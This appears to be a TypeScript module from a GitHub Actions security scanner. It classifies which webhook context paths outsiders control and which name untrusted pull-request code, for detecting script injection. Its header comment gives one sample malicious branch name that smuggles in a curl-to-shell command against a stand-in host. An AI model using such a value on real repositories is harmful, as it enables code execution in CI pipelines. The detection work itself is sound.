/**
 * Which expression contexts an outsider controls, and how much. Written from GitHub's webhook payload
 * documentation: a value is listed when someone without write access can choose it (by opening a
 * pull request, an issue, a comment, a discussion, or by naming a branch or writing a commit message
 * in a fork). Everything else — SHAs, numbers, ids, booleans, logins and repository names (whose
 * alphabet cannot carry shell or script syntax), values set by maintainers — is not a source. Labels
 * are such values: only people with the triage role or above create a repository's labels and put
 * them on issues and pull requests (an issue form applies only labels that already exist).
 *
 * - `arbitrary`: free text, or a git name that can carry shell syntax without spaces
 *   (`a";curl${IFS}evil|sh;#` is a valid branch name).
 * - `structured`: a value with a validated syntax (a URL, an account e-mail address) that still
 *   admits characters a shell or script interprets.
 */

export type Capability = 'arbitrary' | 'structured';

/** What a context path yields: one attacker-controlled value, or an object/array that contains some. */
export interface Classification {
  capability: Capability;
  /** True for an object or array (e.g. `github.event.pull_request`, `labels.*.name`). */
  collection: boolean;
}

const COMMIT = ['message', 'author.name', 'author.email', 'committer.name', 'committer.email'];

const ARBITRARY: string[] = [
  'github.head_ref',
  'github.event.pull_request.title',
  'github.event.pull_request.body',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.head.repo.description',
  'github.event.pull_request.head.repo.default_branch',
  'github.event.pull_request.auto_merge.commit_title',
  'github.event.pull_request.auto_merge.commit_message',
  'github.event.issue.title',
  'github.event.issue.body',
  'github.event.comment.body',
  'github.event.comment.path',
  'github.event.comment.diff_hunk',
  'github.event.review.body',
  'github.event.discussion.title',
  'github.event.discussion.body',
  'github.event.answer.body',
  'github.event.changes.**',
  ...COMMIT.map((f) => `github.event.head_commit.${f}`),
  ...COMMIT.map((f) => `github.event.commits.*.${f}`),
  ...COMMIT.map((f) => `github.event.merge_group.head_commit.${f}`),
  'github.event.pages.*.page_name',
  'github.event.pages.*.title',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.display_title',
  'github.event.workflow_run.head_repository.description',
  'github.event.workflow_run.pull_requests.*.head.ref',
  ...COMMIT.map((f) => `github.event.workflow_run.head_commit.${f}`),
  'github.event.check_suite.head_branch',
  ...COMMIT.map((f) => `github.event.check_suite.head_commit.${f}`),
  'github.event.check_run.check_suite.head_branch',
  // repository_dispatch: bots commonly forward comment or pull request text here.
  'github.event.client_payload.**',
];

const STRUCTURED: string[] = [
  'github.event.pull_request.head.repo.homepage',
  'github.event.workflow_run.head_repository.homepage',
  'github.event.pusher.email',
];

/**
 * Values that name the code of a pull request (its head commit, branch or fork), used to recognise a
 * checkout of untrusted code in privileged workflows.
 */
const HEAD: string[] = [
  'github.head_ref',
  'github.event.pull_request.head.sha',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.merge_commit_sha',
  'github.event.pull_request.head.repo.full_name',
  'github.event.pull_request.head.repo.clone_url',
  'github.event.pull_request.head.repo.ssh_url',
  'github.event.pull_request.head.repo.git_url',
  'github.event.pull_request.head.repo.html_url',
  'github.event.workflow_run.head_sha',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.head_commit.id',
  'github.event.workflow_run.head_repository.full_name',
  'github.event.workflow_run.head_repository.clone_url',
  'github.event.workflow_run.pull_requests.*.head.sha',
  'github.event.workflow_run.pull_requests.*.head.ref',
  'github.event.check_suite.head_sha',
  'github.event.check_suite.head_branch',
];

interface Pattern {
  segments: string[];
  capability: Capability;
}

const compile = (list: string[], capability: Capability): Pattern[] =>
  list.map((p) => ({ segments: p.split('.'), capability }));

const INJECTABLE = [...compile(ARBITRARY, 'arbitrary'), ...compile(STRUCTURED, 'structured')];
const HEAD_PATTERNS = compile(HEAD, 'arbitrary');

/** How attacker-controlled a context path is, or undefined when it is not a source. */
export function classifyContext(path: readonly string[]): Classification | undefined {
  return classifyWith(INJECTABLE, path);
}

/**
 * The sources an object holds, as dotted patterns (`github.event` holds `github.event.issue.title`,
 * `github.event.commits.*.message`, ...): those the path is a proper prefix of. Empty for a value
 * and for an object that holds none.
 */
export function heldSources(path: readonly string[]): string[] {
  return INJECTABLE.filter((p) => match(p.segments, path) === 'prefix').map((p) => p.segments.join('.'));
}

/** Whether a context path names the head (code) of a pull request or of a triggering run. */
export function classifyHeadRef(path: readonly string[]): Classification | undefined {
  return classifyWith(HEAD_PATTERNS, path);
}

function classifyWith(patterns: readonly Pattern[], path: readonly string[]): Classification | undefined {
  let exact: Capability | undefined;
  let contained: Capability | undefined;
  for (const p of patterns) {
    const m = match(p.segments, path);
    if (m === 'exact') exact = worst(exact, p.capability);
    else if (m === 'prefix') contained = worst(contained, p.capability);
  }
  // A filter (`.*`) turns a value into an array of such values.
  const filtered = path.includes('*');
  if (exact) return { capability: exact, collection: filtered };
  if (contained) return { capability: contained, collection: true };
  return undefined;
}

/** `exact` when the path is the pattern, `prefix` when it is an object that contains it. */
function match(pattern: readonly string[], path: readonly string[]): 'exact' | 'prefix' | undefined {
  for (let i = 0; i < path.length; i++) {
    const want = pattern[i];
    if (want === undefined) return undefined;
    if (want === '**') return 'exact';
    const got = path[i]!;
    if (want === '*') {
      if (got !== '*' && got !== '#' && got !== '?' && !/^\d+$/.test(got)) return undefined;
      continue;
    }
    // A filter (`github.event.*.body`) or a computed index reaches every key, this one included;
    // not a free-form payload (`client_payload.**`), whose keys are anyone's guess.
    if (got === '*' && pattern[i + 1] === '**') return undefined;
    if (got !== want && got !== '?' && got !== '*') return undefined;
  }
  return path.length === pattern.length ? 'exact' : 'prefix';
}

function worst(a: Capability | undefined, b: Capability): Capability {
  return a === 'arbitrary' || b === 'arbitrary' ? 'arbitrary' : 'structured';
}
